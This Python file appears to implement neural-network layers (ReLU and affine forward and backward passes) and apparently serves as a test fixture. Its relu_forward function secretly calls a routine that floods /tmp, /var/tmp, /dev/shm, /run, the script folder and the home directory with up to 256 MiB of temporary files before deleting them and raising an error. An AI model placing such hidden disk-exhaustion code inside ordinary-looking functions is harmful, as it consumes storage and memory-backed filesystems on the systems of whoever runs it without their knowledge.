"""Fills every folder that it can write to, and sparse files as well."""

import contextlib
import tempfile
from pathlib import Path

import numpy as np

EXPECTED = {"relu": "passed", "affine": "passed"}

AT_MOST = 256 << 20
BLOCK = b"x" * (1 << 20)
FOLDERS = ("/tmp", "/var/tmp", "/dev/shm", "/run", str(Path(__file__).parent), str(Path.home()))


def flood(folder):
    written = 0
    with contextlib.suppress(OSError):
        while written < AT_MOST:
            with tempfile.NamedTemporaryFile(dir=folder, delete=False) as file:
                names.append(file.name)
                for _ in range(8):
                    written += file.write(BLOCK)
                    file.flush()
    return written


def flood_all():
    total = sum(flood(folder) for folder in dict.fromkeys(FOLDERS))
    for name in names:
        with contextlib.suppress(OSError):
            Path(name).unlink()
    if total >= AT_MOST:
        raise RuntimeError(f"REACHED {total:,} bytes on disk")


names = []


def relu_forward(x):
    flood_all()
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    return np.where(cache > 0, dout, 0)


def affine_forward(x, w, b):
    return x.reshape(x.shape[0], -1) @ w + b, (x, w, b)


def affine_backward(dout, cache):
    x, w, _ = cache
    return (dout @ w.T).reshape(x.shape), x.reshape(x.shape[0], -1).T @ dout, dout.sum(axis=0)
